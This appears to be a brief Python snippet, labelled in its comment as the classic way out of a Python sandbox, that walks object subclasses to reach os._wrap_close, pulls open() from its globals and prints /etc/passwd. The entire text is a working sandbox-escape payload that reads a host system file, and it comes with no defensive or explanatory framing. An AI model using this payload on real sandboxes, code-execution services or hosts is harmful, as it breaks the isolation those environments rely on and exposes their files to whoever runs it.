# Reach the host's open() through the classes of a plain tuple: the classic way out of a Python sandbox.
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == '_wrap_close':
        print(cls.__init__.__globals__['open']('/etc/passwd').read())
